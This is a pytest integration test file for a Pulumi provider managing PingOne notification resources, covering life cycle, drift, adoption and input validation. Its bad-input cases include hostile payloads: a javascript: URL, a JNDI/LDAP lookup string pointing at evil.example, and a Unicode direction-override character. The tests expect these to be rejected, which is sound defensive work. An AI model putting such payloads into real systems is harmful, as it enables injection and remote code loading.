"""Issue 4 through the real CLI: each resource's life cycle, drift, adoption, bad input at preview."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pulumi import automation as auto

from pingone_notifications.testing import EmulatorProcess

from .harness import Harness, changes, harness


def gateway(name: str = "Gateway", **extra: Any) -> dict[str, Any]:
    return {
        "type": "PhoneDeliverySettings",
        "name": name.lower(),
        "args": {
            "provider": "CUSTOM_PROVIDER",
            "name": name,
            "authentication": {"method": "BASIC", "username": "pingone", "password": "pw-1"},
            "requests": [
                {
                    "delivery_method": "SMS",
                    "method": "POST",
                    "url": "https://sms.example.com/send",
                    "body": "to=${to}&text=${message}",
                    "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                },
                {
                    "delivery_method": "VOICE",
                    "method": "GET",
                    "url": "https://sms.example.com/call?to=${to}&say=${message}",
                    "before_tag": "<Say>",
                    "after_tag": "</Say>",
                    "phone_number_format": "NUMBER_ONLY",
                },
            ],
            "numbers": [
                {
                    "type": "TOLL_FREE",
                    "number": "+18005550100",
                    "capabilities": ["SMS", "VOICE"],
                    "supported_countries": ["US", "CA"],
                    "selected": True,
                    "available": True,
                }
            ],
            **extra,
        },
    }


def test_policy_life_cycle(h: Harness) -> None:
    full = {
        "type": "NotificationPolicy",
        "name": "policy",
        "args": {
            "name": "Full policy",
            "quotas": [
                {"type": "USER", "delivery_methods": ["SMS", "Voice"], "claimed": 5, "unclaimed": 3},
                {"type": "ENVIRONMENT", "delivery_methods": ["Email"], "total": 1000},
            ],
            "country_limit": {"type": "DENIED", "delivery_methods": ["SMS"], "countries": ["KP", "IR"]},
            "cooldown_configuration": {
                m: {
                    "enabled": True,
                    "resend_limit": 3,
                    "group_by": "USER_ID",
                    "periods": [
                        {"duration": 30, "time_unit": "SECONDS"},
                        {"duration": 2, "time_unit": "MINUTES"},
                        {"duration": 10, "time_unit": "MINUTES"},
                    ],
                }
                for m in ("email", "sms", "voice", "whats_app")
            },
            "provider_configuration": {
                "conditions": [
                    {"delivery_methods": ["SMS"], "countries": ["US"], "fallback_chain": ["@gateway"]},
                    {"fallback_chain": ["@gateway"]},
                ]
            },
        },
    }
    h.declare(gateway(), full)
    assert changes(h.stack.up().summary.resource_changes) == {"create": 2}
    [live] = [p for p in h.live("policy") if p["name"] == "Full policy"]
    assert live["quotas"][0] == {"type": "USER", "deliveryMethods": ["SMS", "Voice"], "claimed": 5, "unclaimed": 3}
    assert live["cooldownConfiguration"]["whatsApp"]["groupBy"] == "USER_ID"
    assert live["providerConfiguration"]["conditions"][1]["fallbackChain"] == [{"id": h.live("phone")[0]["id"]}]

    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}, "no-op preview"

    full["args"]["quotas"] = [{"type": "USER", "total": 7}]
    full["args"]["name"] = "Renamed"
    h.declare(gateway(), full)
    up = h.stack.up()
    assert changes(up.summary.resource_changes) == {"update": 1}
    [updated] = [p for p in h.live("policy") if p["id"] == live["id"]]
    assert (updated["name"], updated["quotas"][0]["total"]) == ("Renamed", 7)

    # out-of-band change: refresh sees it, the next up reverts it, then all is clean
    h.api.put(h.path(f"/notificationsPolicies/{live['id']}"), {**_strip(updated), "name": "Changed by hand"})
    refresh = h.stack.refresh()
    assert refresh.summary.resource_changes.get("update") == 1
    assert changes(h.stack.preview().change_summary) == {"update": 1}
    h.stack.up()
    assert [p["name"] for p in h.live("policy") if p["id"] == live["id"]] == ["Renamed"]
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    # out-of-band deletion: refresh drops it, up recreates it
    h.api.delete(h.path(f"/notificationsPolicies/{live['id']}"))
    assert h.stack.refresh().summary.resource_changes.get("delete") == 1
    assert changes(h.stack.up().summary.resource_changes) == {"create": 1}
    assert [p["name"] for p in h.live("policy")].count("Renamed") == 1
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    # replacement: another environment
    other = h.emulator.add_environment(region="NA", env_type="PRODUCTION")
    h.emulator.control(
        "POST",
        "worker-apps",
        {
            "environment_id": h.env_id,
            "client_id": h.app["client_id"],
            "client_secret": h.app["client_secret"],
            "environments": [other["id"]],
        },
    )
    moved = {**full, "args": {**full["args"], "environment_id": other["id"], "provider_configuration": None}}
    h.declare(gateway(), dict(moved.items()))
    assert changes(h.stack.up().summary.resource_changes) == {"replace": 1}
    assert "Renamed" not in [p["name"] for p in h.live("policy")]
    assert "Renamed" in [p["name"] for p in h.emulator.objects(other["id"], "policy")]

    h.declare()
    assert changes(h.stack.up().summary.resource_changes) == {"delete": 2}
    assert h.emulator.objects(other["id"], "policy") == [
        p for p in h.emulator.objects(other["id"], "policy") if p["default"]
    ]
    assert h.live("phone") == []


def test_policy_minimal_and_default_policy_adoption(h: Harness) -> None:
    [default] = [p for p in h.live("policy") if p["default"]]
    h.declare(
        {"type": "NotificationPolicy", "name": "minimal", "args": {"name": "Minimal"}},
        {
            "type": "NotificationPolicy",
            "name": "default",
            "args": {"name": "Default (managed)", "adopt": "default", "quotas": [{"type": "USER", "total": 3}]},
        },
    )
    up = h.stack.up()
    assert changes(up.summary.resource_changes) == {"create": 2}
    assert up.outputs["default"].value == default["id"], "adopted, not created"
    [adopted] = [p for p in h.live("policy") if p["id"] == default["id"]]
    assert adopted["name"] == "Default (managed)"
    assert adopted["default"] is True
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}
    h.declare()
    destroy = h.stack.up()
    assert changes(destroy.summary.resource_changes) == {"delete": 2}
    assert [p["id"] for p in h.live("policy")] == [default["id"]], "the default policy is left in place"
    assert any("default notification policy" in line for line in h.stack.output)

    # README "Adopting existing objects": adopt= an ID; and `default=True` makes the policy the environment's
    # default (PingOne keeps one: the previous default is no longer it, seed 002)
    legacy = h.api.create(h.path("/notificationsPolicies"), {"name": "Legacy", "quotas": []}, lookup=lambda: None)
    h.declare(
        {
            "type": "NotificationPolicy",
            "name": "promoted",
            "args": {"name": "Promoted", "adopt": legacy["id"], "default": True},
        }
    )
    up = h.stack.up()
    assert changes(up.summary.resource_changes) == {"create": 1}
    assert up.outputs["promoted"].value == legacy["id"], "adopted by its ID, not created"
    live = {p["id"]: p for p in h.live("policy")}
    assert len(live) == 2
    assert (live[legacy["id"]]["name"], live[legacy["id"]]["default"]) == ("Promoted", True)
    assert live[default["id"]]["default"] is False
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}


def test_phone_delivery_settings_life_cycle(h: Harness) -> None:
    h.declare(gateway())
    assert changes(h.stack.up().summary.resource_changes) == {"create": 1}
    [live] = h.live("phone")
    assert live["authentication"]["password"] == "pw-1"
    assert live["requests"][1]["phoneNumberFormat"] == "NUMBER_ONLY"
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    h.declare(gateway(authentication={"method": "BASIC", "username": "pingone", "password": "pw-2"}))
    assert changes(h.stack.up().summary.resource_changes) == {"update": 1}, "a rotated secret updates"
    assert h.live("phone")[0]["authentication"]["password"] == "pw-2"

    h.declare(
        gateway(
            authentication={
                "method": "OAUTH2",
                "auth_url": "https://login.example.com/token",
                "client_id": "acme",
                "client_secret": "oauth-1",
            }
        )
    )
    assert changes(h.stack.up().summary.resource_changes) == {"update": 1}
    assert h.live("phone")[0]["authentication"]["clientSecret"] == "oauth-1"
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    h.emulator.add_provider_account("CUSTOM_TWILIO", "twilio-1", sid="AC0123")
    h.declare(
        {
            "type": "PhoneDeliverySettings",
            "name": "gateway",
            "args": {"provider": "CUSTOM_TWILIO", "sid": "AC0123", "auth_token": "twilio-1"},
        }
    )
    assert changes(h.stack.up().summary.resource_changes) == {"replace": 1}
    assert [p["provider"] for p in h.live("phone")] == ["CUSTOM_TWILIO"]
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}, "account numbers PingOne reports are not a diff"

    h.api.delete(h.path(f"/notificationsSettings/phoneDeliverySettings/{h.live('phone')[0]['id']}"))
    assert h.stack.refresh().summary.resource_changes.get("delete") == 1
    assert changes(h.stack.up().summary.resource_changes) == {"create": 1}
    assert len(h.live("phone")) == 1


def test_phone_settings_adoption_by_name(h: Harness) -> None:
    body = {
        "provider": "CUSTOM_PROVIDER",
        "name": "Legacy gateway",
        "authentication": {"method": "BEARER", "authToken": "old"},
        "requests": [{"deliveryMethod": "SMS", "method": "POST", "url": "https://legacy.example.com/sms"}],
    }
    existing = h.api.create(h.path("/notificationsSettings/phoneDeliverySettings"), body, lookup=lambda: None)
    h.declare(gateway("Legacy gateway", adopt=True))
    # README "Adopting existing objects": by ID (here a provider whose name the program changes), and a Twilio
    # account by its sid
    by_id = h.api.create(h.path("/notificationsSettings/phoneDeliverySettings"), {**body, "name": "Old name"},
                         lookup=lambda: None)  # fmt: skip
    h.emulator.add_provider_account("CUSTOM_TWILIO", "twilio-adopt", sid="AC5D1A0B")
    twilio = h.api.create(h.path("/notificationsSettings/phoneDeliverySettings"),
                          {"provider": "CUSTOM_TWILIO", "sid": "AC5D1A0B", "authToken": "twilio-adopt"},
                          lookup=lambda: None)  # fmt: skip
    h.declare(
        gateway("Legacy gateway", adopt=True),
        gateway("New name", adopt=by_id["id"]),
        {"type": "PhoneDeliverySettings", "name": "twilio",
         "args": {"provider": "CUSTOM_TWILIO", "sid": "AC5D1A0B", "auth_token": "twilio-adopt", "adopt": True}},
    )  # fmt: skip
    up = h.stack.up()
    assert changes(up.summary.resource_changes) == {"create": 3}
    assert up.outputs["legacy gateway"].value == existing["id"]
    assert up.outputs["new name"].value == by_id["id"]
    assert up.outputs["twilio"].value == twilio["id"]
    live = {p["id"]: p for p in h.live("phone")}
    assert len(live) == 3, "all three adopted, none created"
    assert live[existing["id"]]["authentication"] == {"method": "BASIC", "username": "pingone", "password": "pw-1"}
    assert live[by_id["id"]]["name"] == "New name"
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    # README "Interrupted runs": a checkpoint cut off while being written ("failed to load checkpoint") is put
    # back from the `.bak` the file backend keeps beside it; then `up` converges (nothing duplicated)
    backend = Path(h.stack.stack.workspace.env_vars["PULUMI_BACKEND_URL"].removeprefix("file://"))
    [checkpoint] = (backend / ".pulumi" / "stacks").glob("*/test.json")
    assert checkpoint.with_name("test.json.bak").exists()
    checkpoint.write_text(checkpoint.read_text()[:200])
    with pytest.raises(auto.CommandError, match="checkpoint"):
        h.stack.preview()
    assert h.stack.recover()[0] == "restored test.json from test.json.bak"
    h.stack.up()
    in_state = sorted(r["id"] for r in h.stack.export()["resources"] if r["type"].endswith("PhoneDeliverySettings"))
    assert in_state == sorted(p["id"] for p in h.live("phone")) == sorted(live)
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}


def test_template_content_life_cycle(h: Harness) -> None:
    def content(**args: Any) -> dict[str, Any]:
        return {
            "type": "NotificationTemplateContent",
            "name": "otp",
            "args": {
                "template_name": "strong_authentication",
                "locale": "en",
                "delivery_method": "Email",
                "subject": "Your code",
                "body": "<p>${otp}</p>",
                "from_": {"name": "Acme", "address": "no@acme.example"},
                "reply_to": {"address": "help@acme.example"},
                "charset": "UTF-8",
                "email_content_type": "text/html",
                "variant": "v1",
                **args,
            },
        }

    h.declare(content())
    assert changes(h.stack.up().summary.resource_changes) == {"create": 1}
    [live] = h.custom_contents()
    assert (live["from"], live["replyTo"], live["variant"]) == (
        {"name": "Acme", "address": "no@acme.example"},
        {"address": "help@acme.example"},
        "v1",
    )
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    h.declare(content(subject="Your new code", variant="v2", reply_to=None))
    assert changes(h.stack.up().summary.resource_changes) == {"update": 1}, "variant changes in place"
    [updated] = h.custom_contents()
    assert (updated["id"], updated["variant"], updated.get("replyTo")) == (live["id"], "v2", None)

    h.declare(content(variant="v2", locale="fr"))
    assert changes(h.stack.up().summary.resource_changes) == {"replace": 1}
    assert [c["locale"] for c in h.custom_contents()] == ["fr"]

    minimal = {
        "type": "NotificationTemplateContent",
        "name": "otp",
        "args": {
            "template_name": "strong_authentication",
            "locale": "fr",
            "delivery_method": "SMS",
            "content": "Code ${otp}",
        },
    }
    h.declare(minimal)
    assert changes(h.stack.up().summary.resource_changes) == {"replace": 1}
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    [sms] = h.custom_contents()
    h.api.put(
        h.path(f"/templates/strong_authentication/contents/{sms['id']}"),
        {"locale": "fr", "deliveryMethod": "SMS", "content": "Edited ${otp}"},
    )
    assert h.stack.refresh().summary.resource_changes.get("update") == 1
    h.stack.up()
    assert h.custom_contents()[0]["content"] == "Code ${otp}"
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    h.api.delete(h.path(f"/templates/strong_authentication/contents/{sms['id']}"))
    h.stack.refresh()
    assert changes(h.stack.up().summary.resource_changes) == {"create": 1}
    assert len(h.custom_contents()) == 1


def test_template_content_adoption_and_identical_leftovers(h: Harness) -> None:
    path = h.path("/templates/general/contents")
    stale = h.api.create(path, {"locale": "en", "deliveryMethod": "SMS", "content": "Old"}, lookup=lambda: None)
    leftover = h.api.create(
        path, {"locale": "de", "deliveryMethod": "SMS", "content": "Hallo", "sender": ""}, lookup=lambda: None
    )
    by_id = h.api.create(path, {"locale": "fr", "deliveryMethod": "SMS", "content": "Ancien"}, lookup=lambda: None)
    h.declare(
        {
            "type": "NotificationTemplateContent",
            "name": "adopted",
            "args": {
                "template_name": "general",
                "locale": "en",
                "delivery_method": "SMS",
                "content": "New",
                "adopt": True,
            },
        },
        {
            "type": "NotificationTemplateContent",
            "name": "leftover",
            "args": {"template_name": "general", "locale": "de", "delivery_method": "SMS", "content": "Hallo"},
        },
        {
            "type": "NotificationTemplateContent",
            "name": "by-id",  # README "Adopting existing objects": adopt= the content's ID
            "args": {
                "template_name": "general",
                "locale": "fr",
                "delivery_method": "SMS",
                "content": "Nouveau",
                "adopt": by_id["id"],
            },
        },
    )
    up = h.stack.up()
    assert up.outputs["adopted"].value == stale["id"]
    assert up.outputs["leftover"].value == leftover["id"], "an identical leftover is taken over, not duplicated"
    assert up.outputs["by-id"].value == by_id["id"]
    assert sorted(c["content"] for c in h.custom_contents()) == ["Hallo", "New", "Nouveau"]


def test_conflict_with_a_different_existing_object_explains_adopt(h: Harness) -> None:
    h.api.create(h.path("/notificationsPolicies"), {"name": "Taken", "quotas": []}, lookup=lambda: None)
    h.declare(
        {"type": "NotificationPolicy", "name": "p", "args": {"name": "Taken", "quotas": [{"type": "USER", "total": 1}]}}
    )
    with pytest.raises(auto.CommandError) as err:
        h.stack.up()
    assert "already exists in PingOne" in str(err.value)
    assert "adopt=True" in str(err.value)


def test_notifications_settings_life_cycle(h: Harness) -> None:
    full = {
        "type": "NotificationsSettings",
        "name": "settings",
        "args": {
            "delivery_mode": "WHITELIST",
            "restrictions": {"sms_voice_quota": {"daily": 12}},
            "sms_providers_fallback_chain": ["@gateway", "PINGONE_TWILIO"],
            "from_": {"name": "Acme", "address": "noreply@acme.example"},
            "reply_to": {"name": "Help", "address": "help@acme.example"},
            "whitelist": ["2b5f1c7e-0c1d-4a1e-9f3a-6c1b7e2d4a10"],
        },
    }
    h.declare(gateway(), full)
    with h.no_writes():  # the chain references a provider not created yet: unknown at preview, still valid
        assert changes(h.stack.preview().change_summary) == {"create": 2}
    up = h.stack.up()
    assert changes(up.summary.resource_changes) == {"create": 2}
    assert up.outputs["settings"].value == h.env_id
    [live] = h.live("settings")
    assert live["smsProvidersFallbackChain"] == [h.live("phone")[0]["id"], "PINGONE_TWILIO"]
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    h.declare(gateway(), {"type": "NotificationsSettings", "name": "settings", "args": {"delivery_mode": "ALL"}})
    assert changes(h.stack.up().summary.resource_changes) == {"update": 1}
    [minimal] = h.live("settings")
    assert (minimal["smsProvidersFallbackChain"], minimal.get("replyTo")) == ([], None)

    h.api.delete(h.path("/notificationsSettings"))  # reset by hand: the defaults are drift only if they differ
    h.stack.refresh()
    with h.no_writes():
        assert changes(h.stack.preview().change_summary) == {}

    h.declare(gateway(), full)
    h.stack.up()
    h.declare()
    assert changes(h.stack.up().summary.resource_changes) == {"delete": 2}
    [reset] = h.live("settings")
    assert (reset["deliveryMode"], reset["whitelist"], reset["smsProvidersFallbackChain"]) == ("ALL", [], [])


def content(name: str, **args: Any) -> dict[str, Any]:
    return {"type": "NotificationTemplateContent", "name": name,
            "args": {"template_name": "general", "locale": "en", "delivery_method": "SMS", **args}}  # fmt: skip


# Bad input, by preview: (what the program declares, [(resource name, property, words), ...]). The engine stops a
# preview at the first resource whose check fails (`GenerateSteps` bails on an invalid resource, pkg/resource/
# deploy/step_generator.go, v3.259.0), so one preview judges one resource: the cases of one resource that its check
# reports together share a preview (a resource reports every bad property at once).
BAD_INPUTS = [
    pytest.param(
        [{"type": "NotificationPolicy", "name": "p", "args": {
            "name": "N" * 300,
            "quotas": [{"type": "USER", "total": 60}, {"type": "ENVIRONMENT", "totl": 3}],
            "country_limit": {"type": "ALLOWED", "countries": ["XX"]}}}],
        [("p", "quotas[0]", "at most 50"), ("p", "country_limit.countries[0]", "ISO 3166"),
         ("p", "quotas[1].totl", "did you mean 'total'"), ("p", "name", "at most 256 characters")],
        id="policy-user-quota,country,nested-typo,oversized-name",
    ),
    pytest.param(
        [{"type": "PhoneDeliverySettings", "name": "g", "args": {
            "provider": "CUSTOM_PROVIDER", "name": "G", "authentication": {"method": "OAUTH2", "client_id": "x"},
            "requests": [{"delivery_method": "SMS", "method": "POST", "url": "javascript:alert(1)"}]}}],
        [("g", "authentication", "needs auth_url, client_secret"), ("g", "requests[0]", "is not an https:// URL")],
        id="phone-oauth,hostile-url",
    ),
    pytest.param(
        [{"type": "NotificationsSettings", "name": "s", "args": {"restrictions": {"sms_voice_quota": {"daily": 99}}}}],
        [("s", "restrictions.sms_voice_quota.daily", "50")],
        id="settings-quota",
    ),
    pytest.param(
        [content("c", locale="en-XX", content="Hi", sender="Acme Corporation")],
        [("c", "locale", "not a valid locale"), ("c", "sender", "at most 11")],
        id="content-locale,sender",
    ),
    pytest.param(
        [content("c", template_name="verification_code_template", content="Hello ${greeting}")],
        [("c", "content", "does not allow ${greeting}")],
        id="content-variable",
    ),
    pytest.param([content("c", content="ж" * 68)], [("c", "content", "UCS-2")], id="content-sms-length"),
    pytest.param(
        [content("c", template_name="email_verification_user", content="${code}")],
        [("c", "delivery_method", "does not support SMS")],
        id="content-method",
    ),
    # hostile and oversized values
    pytest.param(
        [content("c", template_name="strong_authentication", content="${otp} ${jndi:ldap://evil.example/a}")],
        [("c", "content", "${jndi:ldap://evil.example/a} is not a variable name")],
        id="hostile-variable",
    ),
    pytest.param(
        [content("c", delivery_method="Email", subject="s", body="x" * 102_401)],
        [("c", "body", "at most 100 KB")],
        id="oversized-body",
    ),
    pytest.param(
        [content("c", content="Hi", sender="Acme\u202e")],
        [("c", "sender", "letters, digits and spaces")],
        id="unicode-sender",
    ),
]  # fmt: skip


@pytest.fixture(scope="module")
def checker(pulumi_cli: object, emulator: EmulatorProcess) -> Iterator[Harness]:
    """One stack for every preview that must fail at check: nothing is ever created in it, so it needs neither
    the empty `up` first nor a `destroy` after (each preview asserts that it wrote nothing)."""
    with harness(emulator, previews_only=True) as running:
        yield running


def refused_at_preview(h: Harness, *resources: dict[str, Any]) -> str:
    """Preview ``resources``: it must fail without a write, a traceback or a step; its output."""
    h.declare(*resources)
    with h.no_writes(), pytest.raises(auto.CommandError) as err:
        h.stack.preview()
    text = str(err.value)
    assert "Traceback" not in text
    return text


@pytest.mark.parametrize(("resources", "expected"), BAD_INPUTS)
def test_bad_input_is_rejected_at_preview_without_writes(
    checker: Harness, resources: list[dict[str, Any]], expected: list[tuple[str, str, str]]
) -> None:
    text = refused_at_preview(checker, *resources)
    for name, prop, words in expected:
        # the error names the resource, then the property and what is wrong with it
        problems = [line.split(" has a problem: ", 1)[1] for line in text.splitlines()
                    if f"resource '{name}'" in line and " has a problem: " in line]  # fmt: skip
        assert [p for p in problems if p.startswith(f"{prop}: ") and words in p], f"{name} {prop} {words}:\n{text}"


def _strip(obj: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in obj.items() if k not in ("id", "environment", "createdAt", "updatedAt")}


@pytest.mark.parametrize(
    "pair",
    [
        pytest.param(
            [{"type": "NotificationTemplateContent", "name": name, "args": {"template_name": "general",
              "locale": locale, "delivery_method": "SMS", "content": "Hi ${user.username}"}}
             for name, locale in (("sms-en", "en"), ("sms-EN", "EN"))],
            id="content",
        ),
        pytest.param(
            [{"type": "NotificationsSettings", "name": name, "args": {}} for name in ("settings-a", "settings-b")],
            id="settings-singleton",
        ),
    ],
)  # fmt: skip
def test_two_resources_for_one_pingone_object_are_refused_at_preview(
    checker: Harness, pair: list[dict[str, Any]]
) -> None:
    # Issue 16 item 12: with the same natural key (seed 001: one custom content per template, delivery method,
    # locale and variant, the locale case-insensitive; seed 003: one settings object per environment) and
    # identical content, both resources would silently manage one PingOne object, and destroying one would
    # delete the other's. The preview fails and names both; nothing is written.
    text = refused_at_preview(checker, *pair)
    first, second = (f"{r['type']} {r['name']!r}" for r in pair)
    assert "declare the same PingOne object" in text, text[-3000:]
    assert first in text
    assert second in text
